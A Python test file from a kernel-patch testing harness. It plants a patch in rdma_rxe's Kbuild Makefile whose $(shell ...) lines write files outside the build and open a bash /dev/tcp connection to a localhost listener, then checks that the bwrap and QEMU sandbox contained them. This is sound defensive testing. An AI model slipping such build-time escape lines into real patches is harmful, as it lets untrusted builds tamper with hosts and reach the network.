"""A mailed series is untrusted code: a patch to rdma_rxe's Kbuild file whose
$(shell ...) writes into /tmp, into the home directory and into the source
tree, and connects to a listener on the host's 127.0.0.1. `harness series
check` builds it after the patch (per-patch check, checkpatch) and on top
(build, boot, the modules suite): every one of those runs in the sandbox, so
the host is left unchanged, the series still passes (the escape had no effect)
and the logs say how make was confined. QEMU runs under -sandbox."""
from __future__ import annotations

import difflib
import json
import os
import subprocess
import sys
from pathlib import Path


from ..conftest import REPO

HARNESS = [sys.executable, "-m", "harness"]
SHORT = ["--set", "suites=[modules]", "--set", "modules=[rdma_rxe]", "--set", "vm.nodes=1"]
KBUILD = "drivers/infiniband/sw/rxe/Makefile"


def planted_series(tree: Path, out: Path, token: str, port: int) -> Path:
    """A one-patch series (a git mbox) adding the escape to rxe's Makefile."""
    old = (tree / KBUILD).read_text().splitlines(keepends=True)
    probe = Path.home() / token
    new = old + [
        "\n",
        f"planted := $(shell echo pwned > /tmp/{token})\n",
        f"planted += $(shell echo pwned > {probe}; echo pwned > $(HOME)/{token})\n",
        f"planted += $(shell echo pwned > $(srctree)/{token} 2>&1)\n",
        f"planted += $(shell bash -c 'echo pwned > /dev/tcp/127.0.0.1/{port}' 2>&1)\n",
    ]
    diff = "".join(difflib.unified_diff(old, new, f"a/{KBUILD}", f"b/{KBUILD}"))
    out.mkdir()
    patch = out / "0001-RDMA-rxe-planted-Kbuild-escape.patch"
    patch.write_text(
        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n"
        "From: Planted Series <planted@harness.invalid>\n"
        "Date: Tue, 1 Dec 2026 00:00:00 +0000\n"
        "Subject: [PATCH] RDMA/rxe: Add a planted Kbuild escape\n\n"
        "The build must not reach the host.\n\n"
        "Signed-off-by: Planted Series <planted@harness.invalid>\n"
        f"---\ndiff --git a/{KBUILD} b/{KBUILD}\n{diff}--\n2.39.5\n\n")
    return out


def test_a_series_whose_kbuild_reaches_out_leaves_the_host_unchanged(
        kernel, kernel_tree, tmp_path, listener):
    port, connections = listener
    token = f"harness-escape-{os.getpid()}"
    series = planted_series(kernel_tree.path, tmp_path / "planted", token, port)
    runs = tmp_path / "runs"
    done = subprocess.run([*HARNESS, "series", "check", str(series), "--runs-dir", str(runs),
                           *SHORT], cwd=REPO, capture_output=True, text=True, timeout=3600)
    (run_dir,) = [p for p in runs.iterdir() if p.is_dir()]
    results = json.loads((run_dir / "results.json").read_text())
    out = done.stdout + done.stderr
    try:
        # nothing reached the host ...
        assert not Path(f"/tmp/{token}").exists()
        assert not (Path.home() / token).exists()
        assert not (kernel_tree.path / token).exists()
        assert connections == [], connections
        # ... and the series itself built, booted and passed: no effect
        assert done.returncode == 0, out[-3000:]
        assert results["series"][0]["patches"][0]["builds"] is True
        make_log = (run_dir / "logs" / "make.log").read_text(errors="replace")
        assert "sandbox: bwrap" in make_log and "no network" in make_log
        assert "Read-only file system" in make_log      # the write into the tree
        per_patch = (run_dir / "logs" / "patches" / "0001-make.log").read_text(errors="replace")
        assert "sandbox: bwrap" in per_patch
        cmdline = (run_dir / "nodes" / "node1" / "qemu-cmdline.txt").read_text()
        assert "-sandbox on,obsolete=deny,elevateprivileges=deny,spawn=deny," \
               "resourcecontrol=deny" in cmdline
    finally:
        for leftover in (Path(f"/tmp/{token}"), Path.home() / token):
            leftover.unlink(missing_ok=True)
